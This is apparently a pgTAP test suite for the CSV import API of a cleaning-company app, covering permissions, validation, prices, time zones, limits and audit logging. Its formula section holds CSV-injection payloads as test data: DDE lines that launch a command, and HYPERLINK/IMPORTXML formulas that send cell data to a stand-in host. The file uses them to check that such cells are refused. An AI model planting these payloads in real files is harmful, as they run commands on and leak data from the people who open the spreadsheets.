-- Imports of the cleaning app: who may, what files come in and as what, what is
-- refused and how that is told, and that nothing is half done.
\ir include/postgrest.sql
\ir include/act_as.sql
SELECT plan(143);

SELECT test.claims('Alder Clean', 'dispatcher') AS dispatcher, test.claims('Birch Services', 'owner') AS stranger \gset

-- A request that imports, and what it comes to: the answer, or the error with its
-- rows as "line column message".
CREATE FUNCTION public.import(what text, csv text, more jsonb DEFAULT '{}', role text DEFAULT 'dispatcher', org text DEFAULT 'Alder Clean')
RETURNS text
LANGUAGE sql
AS $$
	SELECT concat_ws(' ', r.status, r.code, CASE WHEN r.code IS NULL THEN r.body::text ELSE r.message END,
		CASE WHEN r.code = 'PT422' THEN (
			SELECT '| ' || string_agg(concat_ws(' ', e ->> 'line', e ->> 'column', e ->> 'message'), ' | ' ORDER BY n)
			FROM jsonb_array_elements(r.details::jsonb) WITH ORDINALITY AS x (e, n)) ELSE r.details END)
	FROM test.rpc(CASE WHEN import.role <> '' THEN test.claims(import.org, import.role) END, 'cleaning_v1', 'import_' || what,
		jsonb_build_object('csv', import.csv) || more) AS r
$$;
CREATE FUNCTION public.cell(value text) RETURNS text LANGUAGE sql IMMUTABLE
RETURN '"' || replace(value, '"', '""') || '"';
-- What an organization has that the demo data has not.
CREATE FUNCTION public.clients(org text DEFAULT 'Alder Clean') RETURNS text
LANGUAGE sql
AS $$
	SELECT string_agg(concat_ws('/', c.name, coalesce(c.email, '-'), coalesce(c.phone, '-'), coalesce(c.address, '-')), ', ' ORDER BY c.name, c.id)
	FROM cleaning.clients AS c
	JOIN ringfence_data.orgs AS o ON o.id = c.org_id AND o.name = clients.org
	WHERE c.id::text NOT LIKE '0d9f6c1e%'
$$;
CREATE FUNCTION public.bookings(org text DEFAULT 'Alder Clean') RETURNS text
LANGUAGE sql
AS $$
	SELECT string_agg(concat_ws('/', c.name, coalesce(t.name, '-'), b.status, to_char(b.starts_at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS'),
			to_char(b.ends_at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS'), b.address, b.notes,
			coalesce(p.price_minor || ' ' || p.currency || ' ' || p.gst_rate, '-')), ', ' ORDER BY b.starts_at, b.id)
	FROM cleaning.bookings AS b
	JOIN ringfence_data.orgs AS o ON o.id = b.org_id AND o.name = bookings.org
	JOIN cleaning.clients AS c ON c.org_id = b.org_id AND c.id = b.client_id
	LEFT JOIN cleaning.teams AS t ON t.org_id = b.org_id AND t.id = b.team_id
	LEFT JOIN cleaning.booking_prices AS p ON p.org_id = b.org_id AND p.booking_id = b.id
	WHERE b.id::text NOT LIKE '0d9f6c1e%'
$$;
CREATE FUNCTION public.forget() RETURNS SETOF text
LANGUAGE plpgsql
AS $$
BEGIN
	DELETE FROM cleaning.booking_prices WHERE booking_id::text NOT LIKE '0d9f6c1e%';
	DELETE FROM cleaning.bookings WHERE id::text NOT LIKE '0d9f6c1e%';
	DELETE FROM cleaning.clients WHERE id::text NOT LIKE '0d9f6c1e%';
END
$$;

-- Who.
SELECT is(import('clients', E'name\nBy ' || r, role => r), '200 {"errors": [], "skipped": 0, "imported": 1}', r || ' imports clients')
FROM unnest('{owner,admin,dispatcher}'::text[]) AS r;
SELECT is(import('clients', E'name\nBy ' || r, role => r), '403 42501 not allowed to import clients', r || ' does not')
FROM unnest('{finance,worker,client}'::text[]) AS r;
SELECT is(import('bookings', E'client,starts_at,ends_at,address\nBy owner,2026-01-05T17:00Z,2026-01-05T18:00Z,' || r, role => r),
	'200 {"errors": [], "skipped": 0, "imported": 1}', r || ' imports bookings') FROM unnest('{owner,admin,dispatcher}'::text[]) AS r;
SELECT is(import('bookings', E'client,starts_at,ends_at,address\nBy owner,2026-01-05T17:00Z,2026-01-05T18:00Z,' || r, role => r),
	'403 42501 not allowed to import bookings', r || ' does not') FROM unnest('{finance,worker,client}'::text[]) AS r;
SELECT is(import(w, 'name', role => ''), '401 42501 permission denied for schema cleaning_v1', 'nobody imports ' || w || ' without a token')
FROM unnest('{clients,bookings}'::text[]) AS w;
SELECT is(clients(), 'By admin/-/-/-, By dispatcher/-/-/-, By owner/-/-/-', 'so there are three clients');
SELECT is(bookings(), 'By owner/-/draft/2026-01-05T17:00:00/2026-01-05T18:00:00/owner//-, By owner/-/draft/2026-01-05T17:00:00/2026-01-05T18:00:00/admin//-, '
	'By owner/-/draft/2026-01-05T17:00:00/2026-01-05T18:00:00/dispatcher//-', 'and three drafts');
SELECT is(clients('Birch Services'), NULL, 'none of another organization');
SELECT is(r.status || ' ' || r.code, '405 25006', 'GET imports nothing')
FROM test.rpc(:'dispatcher', 'cleaning_v1', 'import_clients', '{"csv": "name\nx"}', 'GET') AS r;
BEGIN;
SELECT pg_temp.act_as('finance');
SELECT throws_ok($$SELECT cleaning.import_file('clients', E'name\nx', true, ',')$$, '42501', 'not allowed to import clients', 'nor does SQL');
SELECT throws_ok($$SELECT cleaning.note_import('clients', 'x', '{}')$$, '42501', 'not allowed to import', 'or say that it did');
SELECT throws_ok($$SELECT cleaning.put_clients('{"{\"name\": \"x\", \"id\": \"00000000-0000-7000-8000-000000000001\"}"}')$$, '42501',
	'new row violates row-level security policy for table "clients"', 'or get past row security');
COMMIT;
SELECT public.forget();

-- What.
SELECT is(import('clients', U&'\FEFFPhone;NAME;"email"' || E'\r\n+1 (555) 010-9999;"Björk; ""B"" GmbH";b@example.org\r\n''+44 20 7946 0000;  Zoë  \r\n;;\r\n\r\n',
	'{"delimiter": ";"}'), '200 {"errors": [], "skipped": 0, "imported": 2}', 'a file as spreadsheets write it');
SELECT is(clients(), 'Björk; "B" GmbH/b@example.org/+1 (555) 010-9999/-, Zoë/-/+44 20 7946 0000/-', 'is taken for what it says');
SELECT is(import('clients', 'name,email'), '200 {"errors": [], "skipped": 0, "imported": 0}', 'a header alone is nothing');
SELECT is(import('clients', E'name\n""\n'), '422 PT422 import has 1 row with errors | 2 name is required', 'an empty name is none');
SELECT is(import('clients', ''), '400 22P04 the CSV has no header The first record names the columns: name (required), email, phone, address.',
	'an empty file is no file');
SELECT is(import('clients', 'email'),
	'400 22P04 no column "name" in the header of the CSV The first record names the columns: name (required), email, phone, address.', 'nor is one without a name');
SELECT is(import('clients', E'name,email\nA,a@x.example,b'), '400 22P04 malformed CSV on line 2 The number of cells in the record that begins there is 3, and 2 in the header.',
	'nor one with more cells than columns');
SELECT is(import('clients', E'name\n"A'), '400 22P04 malformed CSV on line 2 Cell 1 of the record that begins there has no closing quote.', 'nor one that ends too soon');
SELECT is(import('bookings', 'client,starts_at'), '400 22P04 no column "ends_at" in the header of the CSV The first record names the columns: '
	'client_email, client, team, starts_at (required), ends_at (required), address, notes, price, price_minor, gst_rate.', 'bookings begin and end');
SELECT is(import('clients', 'name', '{"delimiter": "x"}'),
	'400 22023 invalid delimiter of a CSV It is one character of ASCII that is no letter, digit, quote or line end.', 'delimiters are told from text');
SELECT is(import(w, NULL), '400 22023 csv is required', 'no file, no import of ' || w) FROM unnest('{clients,bookings}'::text[]) AS w;
SELECT is(import('clients', E'name\n', '{"partial": null, "delimiter": null}'), '200 {"errors": [], "skipped": 0, "imported": 0}', 'NULL elsewhere is the default');
SELECT is(import('clients', E'name\n,', '{"partial": null}'),
	'400 22P04 malformed CSV on line 2 The number of cells in the record that begins there is 2, and 1 in the header.', 'that of all or nothing');
SELECT public.forget();

-- Rows with errors.
\set errors 'name,email,phone,address\nAnn,ann@x.example,1,\n,q,=1,@x\nBob,ANN@X.example,,-\nAda,Ada.Abbott1@Example.com,,\nEve,eve@x.example,,"''- bell"\n'
SELECT email AS taken FROM cleaning.clients WHERE org_id = '0d9f6c1e-0000-7000-8000-00000000000a' ORDER BY id LIMIT 1 \gset
SELECT email AS foreign FROM cleaning.clients WHERE org_id = '0d9f6c1e-0000-7000-8000-00000000000b' AND email NOT IN (
	SELECT email FROM cleaning.clients WHERE org_id = '0d9f6c1e-0000-7000-8000-00000000000a') ORDER BY id LIMIT 1 \gset
SELECT format(E'name,email,phone,address\nAnn,ann@x.example,1,\n,q,=1,@x\nBob,ANN@X.example,,-\nAda,%s,,\nEve,%s,,"''- bell"\n',
	upper(:'taken'), :'foreign') AS errors \gset
SELECT is(import('clients', :'errors'), '422 PT422 import has 3 rows with errors | 3 name is required | 3 email is no e-mail address'
	' | 3 phone begins like a formula: an apostrophe before it says that it is text | 3 address begins like a formula: an apostrophe before it says that it is text'
	' | 4 email is on line 2 too | 4 address begins like a formula: an apostrophe before it says that it is text | 5 email is the e-mail address of a client',
	'every row is checked');
SELECT is(r.hint, 'Nothing was imported. Correct these rows, or send "partial": true to import the others.', 'it says what to do')
FROM test.rpc(:'dispatcher', 'cleaning_v1', 'import_clients', jsonb_build_object('csv', :'errors')) AS r;
SELECT is(clients(), NULL, 'and nothing is imported');
SELECT is(r.body - 'errors', '{"skipped": 3, "imported": 2}', 'or what is sound')
FROM test.rpc(:'dispatcher', 'cleaning_v1', 'import_clients', jsonb_build_object('csv', :'errors', 'partial', true)) AS r;
SELECT is(clients(), 'Ann/ann@x.example/1/-, Eve/' || :'foreign' || '/-/- bell', 'is, also with an e-mail address that another organization has');
SELECT is(import('clients', :'errors', '{"partial": true}'), '200 {"errors": [{"line": 2, "column": "email", "message": "is the e-mail address of a client"}, '
	'{"line": 3, "column": "name", "message": "is required"}, {"line": 3, "column": "email", "message": "is no e-mail address"}, '
	'{"line": 3, "column": "phone", "message": "begins like a formula: an apostrophe before it says that it is text"}, '
	'{"line": 3, "column": "address", "message": "begins like a formula: an apostrophe before it says that it is text"}, '
	'{"line": 4, "column": "email", "message": "is on line 2 too"}, '
	'{"line": 4, "column": "address", "message": "begins like a formula: an apostrophe before it says that it is text"}, '
	'{"line": 5, "column": "email", "message": "is the e-mail address of a client"}, {"line": 6, "column": "email", "message": "is the e-mail address of a client"}], '
	'"skipped": 5, "imported": 0}', 'once: then every row is there');
SELECT is(import('clients', E'name,email,phone\nFay,,1\nFay,,2\nFay,fay@x.example,1\nFay,,1\nEve,,'), '422 PT422 import has 1 row with errors'
	' | 5 name is on line 2 too, and nothing tells the two apart', 'rows without an e-mail address are told apart by all the rest');
SELECT is(import('clients', format(E'name,phone,address\nAnn,1,\nAnn,2,\n%s,%s,%s', c.name, c.phone, cell(c.address))), '422 PT422 import has 2 rows with errors'
	' | 2 name is that of a client, and nothing tells the two apart | 4 name is that of a client, and nothing tells the two apart', 'from clients, too')
FROM cleaning.clients AS c WHERE c.email = :'taken' AND c.org_id = '0d9f6c1e-0000-7000-8000-00000000000a';
SELECT is(import('clients', E'name,email\n' || repeat('n', 200) || ',' || repeat('e', 308) || '@example.com' || E'\n' || repeat('n', 201) || ',' || repeat('e', 309) || '@example.com'),
	'422 PT422 import has 1 row with errors | 3 name is longer than 200 characters | 3 email is no e-mail address', 'what is too long');
SELECT is(import('clients', E'name\n"a\nb"\n' || U&'x\FFFDy' || E'\nz\u0001\nq\u007F\n"c\td"'),
	'422 PT422 import has 3 rows with errors | 4 name has a character that is no text | 5 name has a character that is no text | 6 name has a character that is no text',
	'what was lost on the way, and control characters');
SELECT is(jsonb_array_length(r.details::jsonb) || ' ' || r.message || ' ' || (r.details::jsonb -> 99 ->> 'line'), '100 import has 150 rows with errors 101',
	'a hundred errors are shown')
FROM test.rpc(:'dispatcher', 'cleaning_v1', 'import_clients', jsonb_build_object('csv', E'name\n' || repeat(E'=\n', 150))) AS r;
SELECT public.forget();

-- Formulas, in each column, with and without what marks them as text.
CREATE TABLE public.formulas (cell text);
INSERT INTO public.formulas VALUES ('=1+1'), ('+1+A1'), ('-1+A1'), ('@SUM(1)'), (E'\t=1'), (E'\r=1'), (E'\n=1'), (' =1'), ('   @A1'), (U&'\00A0=1'),
	(U&'\3000+A1'), (U&'\FEFF=1'), (U&'\200B=1'), (U&'\FF1D1+1'), (U&'\FF0BA1'), (U&'\FF0DA1'), (U&'\FF20A1'), ('=cmd|'' /C calc''!A0'),
	('@SUM(1+1)*cmd|'' /C calc''!A0'), ('-2+3+cmd|'' /C calc''!A0'), ('+cmd|'' /C calc''!A0'), ('=HYPERLINK("http://x.example/?"&A1,"y")'),
	('+''file:///c:/x.ods''#$Sheet1.A1'), ('=IMPORTXML("http://x.example/","//a")'), ('-"1"+A1'), ('=DDE("cmd";"/C calc";"x")');
SELECT is(import('clients', (SELECT E'name,email,phone,address\n' || string_agg(format(E'a,%s,%s,%s\n%s,,,', cell(f.cell), cell(f.cell), cell(f.cell), cell(f.cell)), E'\n')
	FROM public.formulas AS f), '{"partial": true}') ~ '"skipped": 52, "imported": 0', true, 'no formula comes in with a client');
SELECT is(import('bookings', (SELECT E'client_email,starts_at,ends_at,address,notes,price\n' || string_agg(format(E'%s,2026-01-05T17:00,2026-01-05T18:00,%s,,\n'
			'%s,2026-01-05T17:00,2026-01-05T18:00,,%s,\n%s,%s,2026-01-05T18:00,,,\n%s,2026-01-05T17:00,2026-01-05T18:00,,,%s',
			:'taken', cell(f.cell), :'taken', cell(f.cell), :'taken', cell(f.cell), :'taken', cell(f.cell)), E'\n')
	FROM public.formulas AS f), '{"partial": true}') ~ '"skipped": 104, "imported": 0', true, 'or a booking');
SELECT results_eq($$SELECT f.cell FROM public.formulas AS f
	WHERE cleaning.import_cell_flaw('''' || f.cell, NULL) IS NULL OR cleaning.import_cell_flaw('''''' || f.cell, NULL) IS NULL ORDER BY f.cell COLLATE "C"$$,
	$$SELECT f.cell FROM public.formulas AS f WHERE f.cell IN ('+1+A1', '-1+A1', '   @A1', U&'\3000+A1', U&'\FF0BA1', U&'\FF0DA1', U&'\FF20A1', '-"1"+A1')
	ORDER BY f.cell COLLATE "C"$$, 'an apostrophe lets in sums of cells, which do no harm, and no formula that can');
SELECT is(import('clients', E'name,phone,address\nA,+1 555,"''- Flat 3"\nB,-1,"''''- Flat 3"\nC,+1+A1,"''=1"'), '422 PT422 import has 1 row with errors'
	' | 4 phone begins like a formula: an apostrophe before it says that it is text | 4 address is a formula', 'numbers, and text said to be text, are none');
SELECT is(import('clients', E'name,phone,address\nA,+1 555,"''- Flat 3"\nB,-1,"''''- Flat 3"\n''t Hooft,''+1 555,'), '200 {"errors": [], "skipped": 0, "imported": 3}',
	'they come in');
SELECT is(clients(), '''t Hooft/-/+1 555/-, A/-/+1 555/- Flat 3, B/-/-1/''- Flat 3', 'with one apostrophe less, but for names that begin so');
SELECT matches(ringfence.csv(c), E'(?n)^B,"\'-1","\'\'- Flat 3"\r?$', 'they go out guarded')
FROM (SELECT c.name, c.phone, c.address FROM cleaning.clients AS c WHERE c.id::text NOT LIKE '0d9f6c1e%') AS c;
SELECT is(import('clients', (SELECT ringfence.csv(c) FROM (
		SELECT c.name, c.phone, c.address FROM cleaning.clients AS c WHERE c.id::text NOT LIKE '0d9f6c1e%') AS c), '{}', 'owner', 'Birch Services'),
	'200 {"errors": [], "skipped": 0, "imported": 3}', 'and come in elsewhere');
SELECT is(clients('Birch Services'), clients(), 'and are the same then');
SELECT public.forget();

-- Bookings.
SELECT is(import('clients', E'name,email,address\nAnn,ann@x.example,1 First Street\nBob,,\nBob,bob@x.example,2 Second Street\nCid,,3 Third Street'),
	'200 {"errors": [], "skipped": 0, "imported": 4}', 'clients first');
SELECT is(import('bookings', E'client,client_email,team,starts_at,ends_at,address,notes,price,price_minor,gst_rate\r\n'
	'ann,ANN@x.example,North,2026-01-05 09:00,2026-01-05T11:30:15,,Ring,120.50,,\r\n,bob@x.example,,2026-07-05T09:00,2026-07-05 12:00-08:00,9 Ninth Street,"a\nb",,12050,0.1\r\n'
	'CID,,,2026-08-05 09:00:00.5Z,2026-08-05T09:30+0000,,,0,,0\r\n'), '200 {"errors": [], "skipped": 0, "imported": 3}', 'bookings of clients by name or e-mail address');
SELECT is(bookings(), 'Ann/North/draft/2026-01-05T17:00:00/2026-01-05T19:30:15/1 First Street/Ring/12050 CAD 0.05000, ' ||
	E'Bob/-/draft/2026-07-05T16:00:00/2026-07-05T20:00:00/9 Ninth Street/a\nb/12050 CAD 0.10000, Cid/-/draft/2026-08-05T09:00:00/2026-08-05T09:30:00/3 Third Street//0 CAD 0.00000',
	'at the time of the organization, its rate, and the address of the client, unless said');
SELECT is(import('bookings', E'client,client_email,team,starts_at,ends_at,address\n,,,2026-01-05T17:00Z,2026-01-05T17:00Z,a\nDan,,North,2026-01-05T17:00Z,2026-01-05T18:00Z,a\n'
	'Bob,,north,2026-01-05T17:00Z,2026-01-05T18:00Z,a\nBob,ann@x.example,,2026-01-05T17:00Z,2026-01-05T18:00Z,a\n,ann@example.com,,2026-01-05T17:00Z,2026-01-05T18:00Z,a\n'
	'Cid,,,2026-08-05 09:00:00.5Z,2026-08-05T10:30Z,\nCid,,,2026-09-05 09:00Z,2026-09-05T10:30Z,\nCid,,,2026-09-05 11:00+02,2026-09-05T10:30Z,3 Third Street\n,bob@x.example,,,2026-09-05,z'),
	'422 PT422 import has 8 rows with errors | 2 client is required, or client_email | 2 ends_at is not after starts_at | 3 client is not the name of a client'
	' | 4 client is the name of several clients: client_email tells them apart | 4 team is not the name of a team'
	' | 5 client is not the name of the client with this e-mail address | 6 client_email is not the e-mail address of a client'
	' | 7 starts_at is that of a booking of the same client and address | 9 starts_at is that of the same client and address on line 8 too'
	' | 10 starts_at is required | 10 ends_at is no time such as 2026-01-05T17:00 or 2026-01-05T17:00:00-08:00', 'what a booking is not');
SELECT is(import('bookings', format(E'client_email,client,team,starts_at,ends_at\n%s,,,2026-01-05T17:00,2026-01-05T18:00\n,Ann,South,2026-01-05T17:00,2026-01-05T18:00', :'foreign'),
	'{}', 'owner', 'Cedar Home Care'), '422 PT422 import has 2 rows with errors | 2 client_email is not the e-mail address of a client | 2 address is required, for the client has none'
	' | 3 client is not the name of a client | 3 address is required, for the client has none', 'another organization''s clients are not there');

-- Prices: exact, and by the digits of the currency.
CREATE FUNCTION public.priced(price text, minor text DEFAULT '', rate text DEFAULT '') RETURNS text
LANGUAGE plpgsql
AS $$
DECLARE
	place CONSTANT text := md5(random()::text);
	answer CONSTANT text := public.import('bookings', format(E'client_email,starts_at,ends_at,address,price,price_minor,gst_rate\n'
		'ann@x.example,2027-01-05T17:00Z,2027-01-05T18:00Z,%s,%s,%s,%s', place, price, minor, rate));
BEGIN
	RETURN coalesce((
		SELECT p.price_minor || ' ' || p.currency
		FROM cleaning.booking_prices AS p JOIN cleaning.bookings AS b ON b.id = p.booking_id AND b.address = place
	), regexp_replace(answer, '^.* \| 2 ', ''));
END
$$;
SELECT is(priced(p), m, 'in dollars, ' || p || ' is ' || m) FROM (VALUES ('120.5', '12050 CAD'), ('120', '12000 CAD'), ('0.07', '7 CAD'), ('9999999999.99', '999999999999 CAD'), ('10000000000', 'price is more than 999999999999 minor units'),
	('120.505', 'price has more decimals than the 2 of CAD'), ('120.500', 'price has more decimals than the 2 of CAD'), ('-1', 'price is no amount such as 120.50'),
	('+1', 'price is no amount such as 120.50'), ('"120,50"', 'price is no amount such as 120.50'), ('1e3', 'price is no amount such as 120.50'),
	('.5', 'price is no amount such as 120.50'), ('100000000000000', 'price is no amount such as 120.50'), ('NaN', 'price is no amount such as 120.50'),
	('$1', 'price is no amount such as 120.50'), ('0.' || repeat('1', 100), 'price has more decimals than the 2 of CAD')) AS v (p, m);
SELECT is(priced('', p), m, 'in cents, ' || p || ' is ' || m) FROM (VALUES ('12050', '12050 CAD'), ('999999999999', '999999999999 CAD'), ('1000000000000', 'price_minor is more than 999999999999 minor units'),
	('999999999999999999', 'price_minor is more than 999999999999 minor units'), ('1000000000000000000', 'price_minor is no whole number of minor units such as 12050'), ('1.0', 'price_minor is no whole number of minor units such as 12050')) AS v (p, m);
SELECT is(priced('1', '100'), 'price is given, and price_minor too', 'not both');
SELECT is(priced('1', '', r), m, 'a rate of ' || r || ' is ' || m) FROM (VALUES ('0.05', '100 CAD'), ('1', '100 CAD'), ('1.00001', 'gst_rate is no fraction such as 0.05'),
	('5%', 'gst_rate is no fraction such as 0.05'), ('0.123456', 'gst_rate is no fraction such as 0.05')) AS v (r, m);
SELECT is(priced('', '', '0.05'), 'gst_rate is given without a price', 'a rate needs a price');
UPDATE ringfence_data.orgs SET settings = settings || '{"currency": "JPY"}' WHERE name = 'Alder Clean';
SELECT is(priced(p), m, 'in yen, ' || p || ' is ' || m) FROM (VALUES ('120', '120 JPY'), ('120.0', 'price has more decimals than the 0 of JPY')) AS v (p, m);
UPDATE ringfence_data.orgs SET settings = settings || '{"currency": "BHD"}' WHERE name = 'Alder Clean';
SELECT is(priced(p), m, 'in dinars, ' || p || ' is ' || m) FROM (VALUES ('120.5', '120500 BHD'), ('0.001', '1 BHD'), ('0.0001', 'price has more decimals than the 3 of BHD')) AS v (p, m);
UPDATE ringfence_data.orgs SET settings = settings - 'currency' WHERE name = 'Alder Clean';
SELECT is(priced('1'), 'price is given, and the organization has no currency', 'without a currency there are no prices');
SELECT is(priced('', '1'), 'price_minor is given, and the organization has no currency', 'of neither kind');
UPDATE ringfence_data.orgs SET settings = settings || '{"currency": "CAD"}' WHERE name = 'Alder Clean';

-- Times of clocks, where they are changed.
SELECT is(s.moment AT TIME ZONE 'UTC' || '', m, v || ' in ' || z || coalesce(' is ' || m, ' is none')) FROM (VALUES
	('2026-03-08 01:59:59', 'America/Vancouver', '2026-03-08 09:59:59'), ('2026-03-08 02:00', 'America/Vancouver', NULL), ('2026-03-08 02:59:59', 'America/Vancouver', NULL),
	('2026-03-08 03:00', 'America/Vancouver', '2026-03-08 10:00:00'), ('2025-11-02 00:59:59', 'America/Vancouver', '2025-11-02 07:59:59'),
	('2025-11-02 01:00', 'America/Vancouver', NULL), ('2025-11-02 01:59:59', 'America/Vancouver', NULL), ('2025-11-02 02:00', 'America/Vancouver', '2025-11-02 10:00:00'),
	('2025-11-02 01:30-07:00', 'America/Vancouver', '2025-11-02 08:30:00'), ('2025-11-02T01:30-08', 'America/Vancouver', '2025-11-02 09:30:00'),
	('2026-04-05 01:45', 'Australia/Lord_Howe', NULL), ('2026-04-05 01:15', 'Australia/Lord_Howe', '2026-04-04 14:15:00'), ('2011-12-30 12:00', 'Pacific/Apia', NULL),
	('2026-01-05 12:00', 'UTC', '2026-01-05 12:00:00'), ('2024-02-29 12:00', 'UTC', '2024-02-29 12:00:00'), ('2026-02-29 12:00', 'UTC', NULL), ('2026-04-31 12:00', 'UTC', NULL),
	('2026-01-05', 'UTC', NULL), ('2026-01-05 24:00', 'UTC', NULL), ('5/1/2026 17:00', 'UTC', NULL), ('2026-01-05 5:00 PM', 'UTC', NULL), ('now', 'UTC', NULL),
	('infinity', 'UTC', NULL), ('2026-01-05T17:00 Europe/Paris', 'UTC', NULL), ('20260105T170000Z', 'UTC', NULL)) AS v (v, z, m)
CROSS JOIN LATERAL cleaning.import_moment(v, z) AS s;
SELECT is((cleaning.import_moment('2026-03-08 02:30', 'America/Vancouver')).flaw, 'is no time of that day in America/Vancouver, where clocks are put forward', 'one that is skipped');
SELECT is((cleaning.import_moment('2025-11-02 01:30', 'America/Vancouver')).flaw,
	'is twice on that day in America/Vancouver, where clocks are put back: add the offset, as in 2025-11-02T01:30-07:00', 'one that is there twice');
SELECT is((cleaning.import_moment('2026-04-05 01:45', 'Australia/Lord_Howe')).flaw,
	'is twice on that day in Australia/Lord_Howe, where clocks are put back: add the offset, as in 2026-04-05T01:45+11:00', 'for half an hour');
SELECT public.forget();

-- As much as there may be.
SELECT is(import('clients', E'name\n' || repeat('x', 10485760 - 5)), '422 PT422 import has 1 row with errors | 2 name is longer than 200 characters', 'ten mebibytes are read');
SELECT is(import('clients', E'name\n' || repeat('x', 10485760 - 4)), '413 PT413 file is larger than 10485760 bytes', 'and not one byte more');
SELECT is(import('clients', E'name\n' || repeat(E'x\n', 50001)), '413 PT413 file has more than 50000 rows', 'fifty thousand rows, and not one more');
SELECT is(import('clients', E'name\n' || repeat(E'=\n', 50000)) ~ '^422 PT422 import has 50000 rows with errors', true, 'which need not be sound');
SELECT is(clients(), NULL, 'and leave nothing behind');

-- Rules that somebody else put on a table.
ALTER TABLE cleaning.clients ADD CONSTRAINT regress_secret_rule CHECK (phone <> '13'), ADD CONSTRAINT regress_secret_key UNIQUE (org_id, address);
SELECT is(import('clients', E'name,phone,address\na,12,1\nb,13,2\nc,14,1\nd,15,3'), '422 PT422 import has 2 rows with errors | 3 breaks a rule of the table'
	' | 4 has a value that another row has, and that is to be unique', 'are told without their names');
SELECT is(clients(), NULL, 'and all is undone');
SELECT is(r.body - 'errors', '{"skipped": 2, "imported": 2}', 'or what they refuse')
FROM test.rpc(:'dispatcher', 'cleaning_v1', 'import_clients', '{"csv": "name,phone,address\na,12,1\nb,13,2\nc,14,1\nd,15,3", "partial": true}') AS r;
SELECT is(clients(), 'a/-/12/1, d/-/15/3', 'the others are in');
SELECT is(import('clients', (SELECT E'name,phone\n' || string_agg(n || ',13', E'\n') FROM generate_series(1, 600) AS n)), '422 PT422 import has too many rows that break rules of the tables', 'which is not tried for ever');
ALTER TABLE cleaning.clients DROP CONSTRAINT regress_secret_rule, DROP CONSTRAINT regress_secret_key;
SELECT public.forget();

-- On record, and once.
SELECT count(*) AS before FROM ringfence_data.audit_log WHERE action LIKE '%.imported' \gset
SELECT is(r.status || ' ' || r.body, '200 {"errors": [], "skipped": 0, "imported": 2}', 'a request with a key')
FROM test.rpc(:'dispatcher', 'cleaning_v1', 'import_clients', '{"csv": "name\nAnn\nBob\n"}', 'POST', '{"idempotency-key": "move-in"}') AS r;
SELECT is(r.status || ' ' || r.body || ' ' || (r.headers ->> 'Idempotency-Replayed'), '200 {"errors": [], "skipped": 0, "imported": 2} true', 'that is repeated')
FROM test.rpc(:'dispatcher', 'cleaning_v1', 'import_clients', '{"csv": "name\nAnn\nBob\n"}', 'POST', '{"idempotency-key": "move-in"}') AS r;
SELECT is(clients(), 'Ann/-/-/-, Bob/-/-/-', 'imports once');
SELECT results_eq($$SELECT l.action, l.new, l.org_id, l.user_id FROM ringfence_data.audit_log AS l WHERE l.action LIKE '%.imported' ORDER BY l.id DESC LIMIT 1$$,
	$$VALUES ('clients.imported' COLLATE "C", '{"rows": 2, "bytes": 13, "sha256": "b4fd8c83f77ea3da12c303c1d9877ab2f06285f1f2f3fe518a6cf29393078e58"}'::jsonb,
		'0d9f6c1e-0000-7000-8000-00000000000a'::uuid, '0d9f6c1e-0001-7000-8000-0000a0000003'::uuid)$$, 'it is on record, with what the file was');
SELECT is((SELECT count(*) FROM ringfence_data.audit_log WHERE action LIKE '%.imported') - :before, 1::bigint, 'once');
SELECT is((SELECT count(*) FROM ringfence_data.audit_log AS l JOIN cleaning.clients AS c ON l.key = c.id::text WHERE c.name IN ('Ann', 'Bob') AND l.operation = 'INSERT'), 2::bigint,
	'beside the rows themselves');
BEGIN;
SELECT pg_temp.act_as('dispatcher');
SELECT lives_ok($$SELECT cleaning.note_import('clients', 'x', ARRAY(SELECT id FROM cleaning_v1.clients))$$, 'who says to have imported what was there');
COMMIT;
SELECT is((SELECT count(*) FROM ringfence_data.audit_log WHERE action LIKE '%.imported') - :before, 1::bigint, 'is not put on record');
BEGIN ISOLATION LEVEL REPEATABLE READ;
SELECT pg_temp.act_as('dispatcher');
SELECT throws_ok($$SELECT cleaning_v1.import_clients(E'name\nx')$$, '25001', 'import is not possible in a repeatable read transaction', 'a snapshot hides what was imported meanwhile');
COMMIT;

SELECT * FROM finish();
